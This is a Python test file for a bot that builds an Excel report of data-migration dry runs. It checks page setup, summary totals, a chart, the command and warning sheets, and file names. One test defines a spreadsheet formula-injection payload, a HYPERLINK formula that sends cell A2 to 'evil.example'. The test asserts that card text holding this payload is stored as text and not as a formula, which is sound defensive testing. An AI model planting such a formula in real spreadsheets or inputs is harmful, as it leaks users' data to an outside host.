"""The PO's workbook read back with openpyxl: a printable document, and card text that stays text."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.app.simulation import simulate
from bot.domain.plan import plan_ticket
from bot.domain.synthesis import summarize
from bot.domain.ticket import parse_ticket
from bot.texts.excel import WorkbookContext, build_workbook, workbook_name
from tests.support.fakes import FakeConsole
from tests.support.text import plain

ROOT = Path(__file__).parents[3]
RUNBOOK_TICKET = (ROOT / "sandbox/tickets/runbook.txt").read_text(encoding="utf-8")
FIELD = "migration-des-donnees"
HOSTILE = '=HYPERLINK("https://evil.example/?q="&A2,"Voir le détail")'
CONTEXT = WorkbookContext(
    card_name="Migration des dossiers usagers - France Fraternités",
    card_url="https://trello.com/c/AbC123",
    short_link="AbC123",
    simulation_number=3,
    made_at=1_790_000_000.0,  # 2026-09-21 14:13 UTC, 16:13 in Paris
    warnings=("Ligne 4 : ligne non comprise",),
)


def simulated(ticket_text: str):
    ticket = parse_ticket(ticket_text, default_field=FIELD)
    assert ticket.ok, ticket.errors
    plan, _ = plan_ticket(ticket, field_slug=FIELD)
    simulation = simulate(plan, FakeConsole(), console_command="php bin/console")
    return simulation, summarize(simulation)


@pytest.fixture(scope="module")
def runbook():
    simulation, synthesis = simulated(RUNBOOK_TICKET)
    return load_workbook(io.BytesIO(build_workbook(simulation, synthesis, context=CONTEXT)))


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_and_a_footer(runbook):
    assert runbook.sheetnames == [
        "Synthèse",
        "CHU 75 (ID 4537)",
        "CPH (ID 4960)",
        "Commandes",
        "Avertissements",
    ]
    for sheet in runbook.worksheets:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == ("$6:$6" if sheet.title == "Synthèse" else "$1:$1")
        assert sheet.oddFooter.left.text == "Migration des dossiers usagers - France Fraternités"
        assert sheet.oddFooter.center.text == "page &P / &N"
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "Calibri", (sheet.title, cell.coordinate)
        widths = [sheet.column_dimensions[letter].width for letter in "ABCDEF"]
        assert max(widths) <= 100, (sheet.title, widths)


def test_no_note_widens_a_column_and_step_numbers_stand_apart(runbook):
    summary = runbook["Synthèse"]
    assert summary.column_dimensions["A"].width < 40  # the centre names, not the accommodations note
    notes = [r for r in summary.merged_cells.ranges if r.min_row > 6]
    assert notes and all(r.max_col == 6 for r in notes)
    origin = runbook["CHU 75 (ID 4537)"]
    assert origin["A3"].value == 1 and origin["A3"].alignment.horizontal == "center"
    assert origin["B3"].value == "vers CHU 77 (ID 5644)" and origin["B3"].alignment.indent >= 1


def test_the_title_block_names_the_card_the_moment_the_simulation_and_the_plan(runbook):
    summary = runbook["Synthèse"]
    assert summary["A1"].value == "Migration des dossiers usagers - France Fraternités"
    assert summary["A2"].value == "https://trello.com/c/AbC123"
    assert summary["A2"].hyperlink.target == "https://trello.com/c/AbC123"
    assert summary["A3"].value == (
        "Simulation (--dry-run) sur la preprod — simulation n° 3 — le 21/09/2026 à 16:13 (heure de Paris)"
    )
    assert re.fullmatch(r"Empreinte : [0-9a-f]{8}", plain(summary["A4"].value))  # as on the card and in Slack


def test_the_moment_is_written_in_the_board_s_time_zone_and_says_which():
    simulation, synthesis = simulated(RUNBOOK_TICKET)
    context = replace(CONTEXT, zone=ZoneInfo("America/Cayenne"))  # UTC-3: 14:13 UTC is 11:13 there
    summary = load_workbook(io.BytesIO(build_workbook(simulation, synthesis, context=context)))["Synthèse"]
    assert summary["A3"].value == (
        "Simulation (--dry-run) sur la preprod — simulation n° 3 — le 21/09/2026 à 11:13 (fuseau America/Cayenne)"
    )


def test_the_summary_ends_with_totals_equal_before_and_after_when_centres_only_exchange(runbook):
    summary = runbook["Synthèse"]
    rows = list(summary.iter_rows(min_row=6, max_col=6, values_only=True))
    assert rows[0] == ("Centre", "ID", "Suivis avant", "Sortants", "Entrants", "Suivis après")
    total_index = next(i for i, row in enumerate(rows) if row[0] == "Total")
    centres = rows[1:total_index]
    total = rows[total_index]
    assert total[2:] == tuple(sum(row[column] for row in centres) for column in range(2, 6))
    assert total[2] == total[5] and total[3] == total[4] > 0
    assert summary.cell(row=6 + total_index, column=1).font.bold


def test_a_bar_chart_shows_each_centre_before_and_after_beside_the_summary(runbook):
    [chart] = runbook["Synthèse"]._charts
    assert chart.tagname == "barChart"
    references = [series.val.numRef.f for series in chart.series]
    assert references == ["'Synthèse'!$C$7:$C$11", "'Synthèse'!$F$7:$F$11"]
    assert chart.series[0].cat.numRef.f == "'Synthèse'!$A$7:$A$11" or chart.series[0].cat.strRef.f == (
        "'Synthèse'!$A$7:$A$11"
    )
    assert chart.anchor._from.col >= 6  # beside the table, not over it


def test_the_commands_sheet_lists_each_dry_run_with_its_figures(runbook):
    rows = list(runbook["Commandes"].iter_rows(values_only=True))
    assert rows[0][:6] == (
        "N°",
        "Origine",
        "Destination",
        "Valeur du champ",
        "Migrés",
        "Reste dans l'origine",
    )
    assert len(rows) == 9
    first = rows[1]
    assert first[:6] == (
        1,
        "France Fraternités - CHU 75 (ID 4537)",
        "France Fraternités - CHU 77 (ID 5644)",
        "CHU 77",
        41,
        119,
    )
    assert first[6].startswith(
        "php bin/console app:migrate-individuals-to-other-organization -o 4537 -d 5644"
    )
    assert first[6].endswith("--dry-run")


def test_the_warnings_sheet_holds_the_warnings_and_is_absent_without_them(runbook):
    assert [row for row in runbook["Avertissements"].iter_rows(values_only=True)] == [
        ("N°", "Avertissement"),
        (1, "Ligne 4 : ligne non comprise"),
    ]
    simulation, synthesis = simulated(RUNBOOK_TICKET)
    quiet = load_workbook(io.BytesIO(build_workbook(simulation, synthesis)))
    assert "Avertissements" not in quiet.sheetnames


def test_each_card_gets_its_own_file_name_starting_with_the_runbooks():
    _, synthesis = simulated(RUNBOOK_TICKET)
    first = workbook_name(synthesis, short_link="AbC123")
    second = workbook_name(synthesis, short_link="XyZ789")
    assert first == "simulation_migration_France_Fraternites_CHU_75_+1_AbC123.xlsx"
    assert second == "simulation_migration_France_Fraternites_CHU_75_+1_XyZ789.xlsx"
    assert workbook_name(synthesis) == "simulation_migration_France_Fraternites_CHU_75_+1.xlsx"  # `simulate`


def test_text_from_a_card_is_never_a_formula():
    """Issue 11, point 1: a value, a centre name or a card name starting with `=` stays the text it is."""
    ticket = (
        f"Centre initial = {HOSTILE} (ID 4537)\n"
        f"- lorsque le champ = « {HOSTILE} » → vers France Fraternités - CHU 77 (ID 5644)\n"
    )
    simulation, synthesis = simulated(ticket)
    assert simulation.plan.rules[0].value == HOSTILE
    context = WorkbookContext(card_name=HOSTILE, warnings=(HOSTILE,))
    workbook = load_workbook(io.BytesIO(build_workbook(simulation, synthesis, context=context)))
    texts = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and HOSTILE in cell.value
    ]
    assert {cell.parent.title for cell in texts} >= {"Synthèse", "Commandes", "Avertissements"}
    assert any(cell.value == HOSTILE for cell in texts)
    for cell in texts:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)
    assert all(
        cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    )


def test_a_name_that_differs_from_the_consoles_is_listed_in_the_warnings_sheet():
    simulation, synthesis = simulated(
        "Centre initial = Mauvais nom (ID 4537)\n- lorsque le champ = X → vers France Fraternités - CHU 77 (ID 5644)\n"
    )
    workbook = load_workbook(io.BytesIO(build_workbook(simulation, synthesis)))
    rows = [
        (number, plain(text))
        for number, text in workbook["Avertissements"].iter_rows(min_row=2, values_only=True)
    ]
    assert rows == [
        (
            1,
            "Nom différent pour le centre d'origine 4537 : « Mauvais nom » dans le ticket, "
            "« France Fraternités - CHU 75 » selon la console.",
        )
    ]
